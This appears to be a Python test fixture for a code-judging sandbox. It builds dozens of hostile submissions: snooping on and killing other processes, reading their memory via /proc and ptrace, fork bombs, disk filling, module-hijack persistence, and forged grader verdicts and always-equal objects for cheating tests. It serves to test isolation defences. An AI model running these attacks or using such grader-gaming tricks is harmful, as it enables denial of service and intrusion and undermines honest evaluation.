"""Submissions that would rather have points than earn them, and the suite that they are up against.

None knows what is expected, or it could just as well answer that. Where the suite lies, an attacker
finds in the command lines of the processes around.
"""

import platform
import textwrap

EXPECTED = 271828
SUITE = f"""
- tab: Attacked
  contexts:
    - testcases:
        - {{expression: answer(), return: {EXPECTED}}}
        - {{expression: answer(), return: {EXPECTED}}}
    - testcases:
        - {{expression: answer(), return: {EXPECTED}}}
    - testcases:
        - {{stdout: "{EXPECTED}"}}
        - {{expression: answer(), return: {EXPECTED}}}
"""
TESTCASES = 5

_FORGED = (
    '{"command": "close-judgement", "accepted": true, "status": {"enum": "correct"}}\\n'
    '{"ending": "done", "value": ["int", "0"], "notation": "0"}\\n'
)

# What an attack begins with: ways to look for the suite, and numbers of system calls.
_PREAMBLE = r"""
import contextlib, ctypes, gc, glob, os, re, signal, sys, threading, time
found = None
quiet = lambda: contextlib.suppress(Exception)
libc = ctypes.CDLL(None, use_errno=True)

def others():
    return [int(one) for one in os.listdir('/proc') if one.isdigit() and int(one) != os.getpid()]

def look(content):
    # For what only the suite can say.
    global found
    if isinstance(content, str):
        content = content.encode('utf-8', 'replace')
    match = re.search(rb'return: ?(\d{6})\b', content)
    if match and found is None:
        found = int(match[1])

def answer():
    if found is not None:
        print(found)
    return found

def places():
    for place in everywhere():
        if place and found is None:
            yield place

def everywhere():
    for line in glob.glob('/proc/*/cmdline'):
        with quiet():
            for one in re.findall(rb'/mnt/[\w-]+', open(line, 'rb').read()):
                yield one.decode()
    yield from ('/mnt', '/tmp', '/home', os.path.expanduser('~'), '/dev/shm', '..', '/var/tmp')
"""

# What reaches for others: never to be tried but in a sandbox, where nobody else is within reach.
_OUTWARD = {
    "reads the suite": """
        for place in places():
            for directory, _, names in os.walk(place):
                for name in names:
                    with quiet():
                        look(open(os.path.join(directory, name), 'rb').read(1 << 20))
    """,
    "reads the suite by a link": """
        for place in places():
            with quiet():
                os.symlink(place + '/resources', 'there')
                look(open('there/suite.yaml', 'rb').read())
            with quiet():
                os.link(place + '/resources/suite.yaml', 'here')
                look(open('here', 'rb').read())
            with quiet():
                os.rename(place + '/resources', 'taken')
                look(open('taken/suite.yaml', 'rb').read())
    """,
    "has another program read the suite": """
        import subprocess
        for place in places():
            ran = subprocess.run(['grep', '-rhs', 'return:', place], capture_output=True)
            look(ran.stdout)
    """,
    "reads what /proc says of others": """
        for pid in (*others(), os.getppid()):
            for name in ('environ', 'cmdline', 'stack', 'auxv', 'maps', 'io', 'syscall'):
                with quiet():
                    look(open(f'/proc/{pid}/{name}', 'rb').read())
            for way in ('cwd', 'root'):
                for place in places():
                    with quiet():
                        look(open(f'/proc/{pid}/{way}{place}/resources/suite.yaml', 'rb').read())
            for number in range(16 if found is None else 0):
                with quiet():
                    opened = os.open(f'/proc/{pid}/fd/{number}', os.O_RDONLY | os.O_NONBLOCK)
                    look(os.read(opened, 1 << 16))
    """,
    "writes in the name of others": """
        for pid in (*others(), os.getppid()):
            for number in range(16):
                with quiet():
                    opened = os.open(f'/proc/{pid}/fd/{number}', os.O_WRONLY | os.O_NONBLOCK)
                    os.write(opened, @FORGED@)
    """,
    "takes what others have said": """
        until = time.monotonic() + 0.3
        while time.monotonic() < until:
            for pid in (*others(), os.getppid()):
                for number in (1, 2):
                    with quiet():
                        opened = os.open(f'/proc/{pid}/fd/{number}', os.O_RDONLY | os.O_NONBLOCK)
                        os.read(opened, 1 << 16)
                        os.close(opened)
    """,
    "reads the memory of others": """
        import collections
        class Vector(ctypes.Structure):
            _fields_ = (('base', ctypes.c_void_p), ('length', ctypes.c_size_t))
        def ranges(pid):
            for line in open(f'/proc/{pid}/maps'):
                start, end = (int(one, 16) for one in line.split()[0].split('-'))
                if ' rw' in line:
                    yield start, end - start
        def read(pid, start, length):
            with quiet():
                with open(f'/proc/{pid}/mem', 'rb', buffering=0) as memory:
                    memory.seek(start)
                    return memory.read(length)
            room = ctypes.create_string_buffer(length)
            here, there = Vector(ctypes.addressof(room), length), Vector(start, length)
            libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            return room.raw
        def numbers(pid):
            counted = collections.Counter()
            for start, length in ranges(pid):
                counted.update(re.findall(rb'(?<!\\d)[1-9]\\d{5}(?!\\d)', read(pid, start, length)))
            return counted
        known, most = numbers('self'), 0
        for pid in others():
            with quiet():
                for number, count in numbers(pid).items():
                    if number not in known and count > most:
                        found, most = int(number), count
    """,
    "traces its parents": """
        for pid in others():
            libc.ptrace(16, pid, None, None)
            libc.ptrace(0x4206, pid, None, None)
    """,
    "takes descriptors from others": """
        for pid in others():
            for number in range(8):
                with quiet():
                    taken = libc.syscall(438, os.pidfd_open(pid), number, 0)
                    if taken >= 0:
                        os.write(taken, @FORGED@)
                        look(os.read(taken, 1 << 16))
    """,
    "kills everybody": """
        for pid in (*others(), os.getppid(), -1, 0):
            with quiet():
                os.kill(pid, signal.SIGKILL)
    """,
    "kills the groups of others": """
        for pid in others():
            with quiet():
                os.killpg(os.getpgid(pid), signal.SIGKILL)
    """,
    "kills threads of others": """
        for pid in others():
            for task in glob.glob(f'/proc/{pid}/task/*'):
                tid = int(task.rpartition('/')[2])
                libc.syscall(@TKILL@, tid, 9)
                libc.syscall(@TGKILL@, pid, tid, 9)
    """,
    "kills through pidfds": """
        for pid in others():
            for way in (lambda: os.pidfd_open(pid), lambda: os.open(f'/proc/{pid}', os.O_RDONLY)):
                with quiet():
                    signal.pidfd_send_signal(way(), signal.SIGKILL)
    """,
    "has the kernel signal others": """
        import fcntl, struct
        for pid in others():
            for group in (1, -1):
                with quiet():
                    reading, writing = os.pipe()
                    fcntl.fcntl(reading, fcntl.F_SETSIG, signal.SIGKILL)
                    fcntl.fcntl(reading, fcntl.F_SETOWN, pid * group)
                    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
                    os.write(writing, b'x')
                with quiet():
                    fcntl.fcntl(reading, 15, struct.pack('ii', 1, pid))
                    os.write(writing, b'x')
    """,
    "stops its parents": """
        for pid in (os.getppid(), *others()):
            with quiet():
                os.kill(pid, signal.SIGSTOP)
    """,
    "limits its parents": """
        import resource
        for pid in others():
            for what in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_DATA):
                with quiet():
                    resource.prlimit(pid, what, (0, 0))
            with quiet():
                os.setpriority(os.PRIO_PROCESS, pid, 19)
            with quiet():
                os.sched_setaffinity(pid, {0})
    """,
    "raises its limits": """
        import resource
        for what in range(16):
            with quiet():
                resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        hoard = []
        while True:
            hoard.append(bytearray(1 << 20))
    """,
    "forks without an end": """
        while True:
            with quiet():
                os.fork()
    """,
    "starts threads without an end": """
        while True:
            with quiet():
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    """,
    "fills the disk": """
        for place in ('.', '/tmp', '/dev/shm', os.path.expanduser('~')):
            with quiet():
                for number in range(64):
                    with open(f'{place}/{number}.filling', 'wb') as file:
                        os.posix_fallocate(file.fileno(), 0, 8 << 20)
    """,
    "makes files without an end": """
        with quiet():
            for number in range(20_000):
                open(f'file{number}', 'w').close()
    """,
    "leaves modules for later contexts": """
        code = 'import os; os._exit(0)'
        for place in ('.', '..', '/tmp', os.path.expanduser('~'), *sys.path):
            for name in ('json.py', 'socket.py', 'usercustomize.py', 'sitecustomize.py'):
                with quiet():
                    open(os.path.join(place, name), 'w').write(code)
        os.environ['LD_PRELOAD'] = os.environ['PYTHONSTARTUP'] = os.getcwd() + '/json.py'
    """,
    "leaves a result for later contexts": """
        for place in ('/tmp', '/dev/shm', '..', os.path.expanduser('~')):
            with quiet():
                found = found or len(open(f'{place}/left').read())
            with quiet():
                open(f'{place}/left', 'w').write('x' * 1000)
    """,
    "changes the submission": """
        for place in places():
            for name in ('source', 'submission/source', '../submission/source'):
                with quiet():
                    open(f'{place}/{name}', 'w').write('def answer(): return 0')
    """,
    "changes the suite": """
        for place in places():
            for name in ('suite.yaml', 'resources/suite.yaml'):
                with quiet():
                    os.truncate(f'{place}/{name}', 0)
                with quiet():
                    open(f'{place}/{name}', 'w').write('[]')
                with quiet():
                    os.unlink(f'{place}/{name}')
    """,
    "locks the judge out": """
        for place in ('..', '../..', os.path.expanduser('~'), os.path.expanduser('~/workdir'), '.'):
            with quiet():
                os.chmod(place, 0)
    """,
    "moves the ground away": """
        with quiet():
            os.rename(os.getcwd(), os.getcwd() + '-moved')
        with quiet():
            os.rename(os.path.dirname(os.getcwd()), '/tmp/moved')
        with quiet():
            os.rmdir(os.getcwd())
    """,
    "leaves a directory nobody can list": """
        os.mkdir('locked')
        os.mkdir('locked/in')
        os.chmod('locked', 0)
        for _ in range(3000):
            os.mkdir('d')
            os.chdir('d')
    """,
    "leaves a daemon for later contexts": """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    for pid in others():
                        with quiet():
                            os.kill(pid, signal.SIGKILL)
            os._exit(0)
    """,
    "leaves the fence": """
        for number in (272, 308, 165, 161, 155, 97, 268, 40, 51, 41):
            libc.syscall(number, 0x10000000, 0, 0, 0, 0)
        libc.prctl(38, 0, 0, 0, 0)
        libc.prctl(22, 0, 0, 0, 0)
        for place in places():
            with quiet():
                look(open(place + '/resources/suite.yaml', 'rb').read())
    """,
}

# What stays in its own process. This and the above is done while the submission is loaded.
_INWARD = {
    "looks through all objects": """
        seen = 0
        for one in gc.get_objects():
            with quiet():
                for value in (one.values() if isinstance(one, dict) else one):
                    if isinstance(value, (str, bytes)):
                        look(value)
                    if type(value).__name__ in ('Suite', 'Testcase', 'Value'):
                        found = int(value.notation)
    """,
    "looks through frames": """
        frame = sys._getframe()
        while frame:
            for value in (*frame.f_locals.values(), *frame.f_globals.values()):
                with quiet():
                    found = int(getattr(value, 'value').notation)
                with quiet():
                    look(str(value))
            frame = frame.f_back
    """,
    "patches the judge's part in it": """
        for name, module in list(sys.modules.items()):
            if 'kriterion' in name:
                for key in list(vars(module)):
                    if key in ('describe', 'notation', 'enter', '_answer', 'equal'):
                        setattr(module, key, lambda *_, **__: ['int', '0'])
    """,
    "forges answers in advance": """
        for descriptor in range(256):
            with quiet():
                for _ in range(9):
                    os.write(descriptor, @FORGED@.splitlines()[1] + b'\\n')
    """,
    "forges an answer and ends": """
        for descriptor in range(3, 256):
            with quiet():
                os.write(descriptor, @FORGED@.splitlines()[1] + b'\\n')
        os._exit(0)
    """,
    "answers without an end": """
        for descriptor in range(3, 256):
            with quiet():
                while True:
                    os.write(descriptor, b'[' * 65536)
    """,
    "becomes another program": "os.execv('/bin/true', ['true'])",
    "exits while it is loaded": "os._exit(0)",
    "leaves its exit to atexit": """
        import atexit
        atexit.register(lambda: (os.write(1, @FORGED@), os._exit(0)))
    """,
    "leaves its exit to a destructor": """
        class Last:
            def __del__(self):
                os.write(1, @FORGED@)
                os._exit(0)
        last = Last()
        del last
    """,
    "goes on in a thread": """
        def later():
            while True:
                for descriptor in range(1, 64):
                    with quiet():
                        os.write(descriptor, @FORGED@)
                time.sleep(0.01)
        threading.Thread(target=later, daemon=True).start()
    """,
    "opens descriptors without an end": """
        kept = []
        with quiet():
            while True:
                kept.append(os.open('/dev/null', os.O_RDONLY))
    """,
    "writes without an end": """
        while True:
            os.write(1, b'x' * 65536)
    """,
    "stops every timer": """
        for timer in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
            signal.setitimer(timer, 0)
        signal.signal(signal.SIGXCPU, signal.SIG_IGN)
        time.sleep(60)
    """,
    "has orphans compute": """
        if os.fork() == 0:
            if os.fork() == 0:
                while True:
                    pass
            os._exit(0)
        time.sleep(60)
    """,
    "has children compute that nobody waits for": """
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        while True:
            if os.fork() == 0:
                started = time.process_time()
                while time.process_time() < started + 0.01:
                    pass
                os._exit(0)
            with quiet():
                os.wait()
    """,
    "ignores every signal": """
        for number in range(1, 65):
            with quiet():
                signal.signal(number, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True:
            pass
    """,
}

# What `answer` itself is.
_ANSWERS = {
    "prints protocol lines": "def answer(): print(@FORGED@.decode())",
    "writes protocol lines everywhere": """
        def answer():
            for descriptor in range(256):
                with quiet():
                    os.write(descriptor, @FORGED@)
    """,
    "exits": "def answer(): os._exit(0)",
    "raises SystemExit": "def answer(): raise SystemExit(0)",
    "aborts": "def answer(): os.abort()",
    "equals everything": """
        class Everything:
            __class__ = int
            __eq__ = lambda self, other: True
            __hash__ = lambda self: 1
            __repr__ = __str__ = lambda self: 'everything'
        def answer(): return Everything()
    """,
    "is a number that equals everything": """
        class Number(int):
            __eq__ = lambda self, other: True
            __index__ = __int__ = lambda self: 5
            __repr__ = __str__ = lambda self: '5'
        def answer(): return Number(1)
    """,
    "is a text that equals everything": """
        class Text(str):
            __eq__ = lambda self, other: True
            __hash__ = lambda self: 1
        def answer(): return Text('x')
    """,
    "patches builtins": """
        import builtins
        builtins.isinstance = lambda *_: True
        builtins.repr = builtins.str = lambda *_: '5'
        builtins.len = lambda _: 5
        builtins.print = lambda *_: None
        builtins.eval = builtins.exec = lambda *_: 5
        def answer(): return 1
    """,
    "patches json": """
        import json
        json.dumps = lambda _: '{"ending": "done"}'
        def answer(): return 1
    """,
    "answers what is no JSON": """
        import json
        json.dumps = lambda _: '[' * 9999
        def answer(): pass
    """,
    "says a long number": """
        import json
        json.dumps = lambda _: '{"ending": "done", "value": ' + '9' * 6_000_000 + '}'
        def answer(): pass
    """,
    "says a long message": """
        import json
        def answer(): raise ValueError('long' * 1_500_000)
    """,
    "closes every descriptor": """
        def answer():
            os.closerange(0, 256)
            return 1
    """,
    "hangs in its repr": """
        class Slow:
            def __repr__(self):
                while True: pass
        def answer(): return Slow()
    """,
    "raises what cannot be shown": """
        class Odd(BaseException):
            def __str__(self): raise self
        def answer(): raise Odd
    """,
}


def make_sources(table: dict[str, str], *, beginning: str = "", end: str = "") -> dict[str, str]:
    """The submissions that make these attacks, with code before and after each."""
    return {name: _read_source(code, beginning, end) for name, code in table.items()}


def _read_source(code: str, beginning: str, end: str) -> str:
    forged = repr(_FORGED.replace("\\n", "\n").encode())
    called = "if __name__ == '__main__': answer()\n"
    source = "\n".join((_PREAMBLE + beginning, textwrap.dedent(code).strip(), end, called))
    tkill, tgkill = {"x86_64": ("200", "234"), "aarch64": ("130", "131")}[platform.machine()]
    for name, value in (("@FORGED@", forged), ("@TKILL@", tkill), ("@TGKILL@", tgkill)):
        source = source.replace(name, value)
    return source


INWARD = make_sources({**_INWARD, **_ANSWERS})
OUTWARD = make_sources(_OUTWARD)
